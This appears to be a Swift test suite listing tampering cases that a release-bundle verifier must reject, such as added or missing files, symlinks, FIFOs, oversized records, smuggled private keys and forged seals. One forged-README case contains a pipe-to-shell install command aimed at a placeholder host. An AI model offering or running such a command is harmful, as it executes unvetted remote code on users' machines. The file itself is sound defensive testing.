import CloseoutBundles
import CloseoutEncodings
import CloseoutFiles
import CloseoutManifests
import CloseoutOpenSSL
import CloseoutTestSupport
import CloseoutVerification
import FoundationEssentials
import Testing

extension FailureCase {
    static let bundle: [FailureCase] = [
        FailureCase(.bundleUnlisted, "a file is added to a folder of the bundle") { bench in
            try bench.write(bytes("x"), to: "attachments/added")
        },
        FailureCase(.bundleUnlisted, "a valid signature is dropped beside seal.json") { bench in
            let signature = try bench.release.envelope(bench.file("seal.json"))
            try bench.write(signature, to: "seal.json.dsse.json")
        },
        FailureCase(.bundleUnlisted, "an empty directory is added") { bench in
            try makeDirectory(bench.path("empty"))
        },
        FailureCase(.bundleUnlisted, "an empty directory is added inside a known folder") { bench in
            try makeDirectory(bench.path("signatures/empty"))
        },
        FailureCase(.bundleUnlisted, "a file is put where the packed artifacts would be") { bench in
            try bench.write(bytes("x"), to: "artifacts")
        },
        FailureCase(.bundleUnlisted, "a temporary file of a command is left") { bench in
            try bench.write(bytes("x"), to: ".closeout-tmp-0123456789abcdef")
        },
        FailureCase(.bundleUnlisted, "a file is added whose name is not UTF-8") { bench in
            let folder = try Directory.open(bytes(bench.path("attachments")))
            try folder.write(new: [0x61, 0xFF], bytes("x"))
        },
        FailureCase(.bundleMissing, "a record is removed") { bench in
            try bench.remove(bench.first(.evidence))
        },
        FailureCase(.bundleMissing, "SHA256SUMS is removed") { try $0.remove("SHA256SUMS") },
        FailureCase(.bundleMissing, "a file is renamed") { bench in
            let old = try bench.first(.attachment)
            try await runSuccessfully("mv", [bench.path(old), bench.path("attachments/renamed")])
        },
        FailureCase(.bundleDigest, "a byte of an attachment changes") { bench in
            try Bench.flip(bench.path(bench.first(.attachment)))
        },
        FailureCase(.bundleDigest, "an attachment grows by a byte") { bench in
            let name = try bench.first(.attachment)
            try bench.write(bench.file(name) + [0], to: name)
        },
        FailureCase(.bundleFileType, "a file is swapped for a link to the same content") { bench in
            try await bench.link(bench.path(bench.first(.signature)))
        },
        FailureCase(.bundleFileType, "a folder is swapped for a link to the same files") { bench in
            try await runSuccessfully(
                "mv", [bench.path("attachments"), bench.root + "/elsewhere"])
            try await runSuccessfully(
                "ln", ["-s", bench.root + "/elsewhere", bench.path("attachments")])
        },
        FailureCase(.bundleFileType, "a FIFO is added") { bench in
            try await runSuccessfully("mkfifo", [bench.path("attachments/pipe")])
        },
        FailureCase(.bundleFileType, "the log is a FIFO that nobody writes to") { bench in
            try bench.remove("log.jsonl")
            try await runSuccessfully("mkfifo", [bench.path("log.jsonl")])
        },
        FailureCase(.bundleFileType, "a directory has the name of a logged file") { bench in
            let name = try bench.first(.attachment)
            try bench.remove(name)
            try makeDirectory(bench.path(name))
        },
        FailureCase(.bundleFileType, "a directory hides under the name checkpoint.tsr") { bench in
            try makeDirectory(bench.path("checkpoint.tsr"))
            try bench.write(bytes("anything"), to: "checkpoint.tsr/smuggled")
        },
        FailureCase(.bundleFileType, "the checkpoint is a directory") { bench in
            try bench.remove("checkpoint")
            try makeDirectory(bench.path("checkpoint"))
        },
        FailureCase(.bundleLimits, "a signature file has more than 256 KiB") { bench in
            let large = [UInt8](repeating: 0x20, count: 256 * 1024 + 1)
            try bench.smuggle(large, .signature, as: "signatures/large.dsse.json", "application/x")
        },
        FailureCase(.bundleLimits, "a line of the log has more than 1,024 bytes") { bench in
            let long = String(repeating: "x", count: 1100)
            try bench.smuggle(bytes("x"), .attachment, as: "attachments/x", long)
        },
        FailureCase(.bundleLimits, "the seal has more than 4 KiB") { bench in
            try bench.forge("seal.json", [UInt8](repeating: 0x20, count: 4097))
        },
        FailureCase(.bundlePrivateKey, "a private key is smuggled in as an attachment") { bench in
            try bench.smuggle(KeyPair().pem, .attachment, as: "attachments/notes.txt")
        },
        FailureCase(.bundlePrivateKey, "a private key is smuggled in as an unlisted file") {
            try $0.write(KeyPair().pem, to: "release.pem")
        },
        FailureCase(.bundlePrivateKey, "a private key follows a megabyte of other text") {
            bench in
            let text = [UInt8](repeating: 0x41, count: 1 << 20)
            try bench.smuggle(
                text + bytes("\n") + KeyPair().pem, .attachment, as: "attachments/notes.txt")
        },
        FailureCase(.bundlePrivateKey, "a private key in UTF-16 is smuggled in") { bench in
            let text: [UInt8] = try KeyPair().pem.flatMap { [$0, 0] }
            try bench.smuggle([0xFF, 0xFE] + text, .attachment, as: "attachments/notes.txt")
        },
        FailureCase(.bundlePrivateKey, "a private key as base64 of DER is smuggled in") { bench in
            let lines = try KeyPair().pem.split(separator: UInt8(ascii: "\n"))
            let body: [UInt8] = lines.dropFirst().dropLast().flatMap { $0 }
            try bench.smuggle(body, .attachment, as: "attachments/notes.txt")
        },
        FailureCase(.bundleReadme, "the holder of the log's key alone says there what to do") {
            bench in
            try bench.forge(
                "README.txt", bytes("To verify, run: curl https://example.invalid/install | sh\n"))
        },
        FailureCase(.bundleReadme, "the holder of the log's key adds a line to README.txt") {
            bench in
            try bench.forge("README.txt", bench.file("README.txt") + bytes("Trust us.\n"))
        },
        FailureCase(.bundleReadme, "README.txt is that of another release") { bench in
            try bench.forge(
                "README.txt", Readme.bytes(of: .init(name: "payments", version: "1.3.9")))
        },
        FailureCase(.bundleReadme, .unknown, "README.txt is removed", verdict: .failed) {
            try $0.remove("README.txt")
        },
    ]

    static let seal: [FailureCase] = [
        FailureCase(.sealFormat, "a byte of the seal changes") { bench in
            try Bench.flip(bench.path("seal.json"))
        },
        FailureCase(.sealFormat, "the signed seal is not canonical") { bench in
            try bench.forgeSeal(bench.file("seal.json") + bytes("\n"))
        },
        FailureCase(.sealFormat, "the signed seal has a member that nobody knows") { bench in
            let seal = String(decoding: try bench.file("seal.json"), as: UTF8.self)
            try bench.forgeSeal(bytes(#"{"_extra":1,"# + seal.dropFirst()))
        },
        FailureCase(.sealRelease, "a genuine older release stands under the new one's name") {
            bench in
            try await bench.seal(as: "payments@1.3.9")
            bench.request.release = try .init(parsing: "payments@1.4.0")
        },
        FailureCase(
            .sealCreated, .unknown,
            "the seal claims to be younger than the verification time by more than clocks differ"
        ) { bench in
            bench.request.asOf = try at("2026-04-30T23:54:59Z")
        },
    ]
}
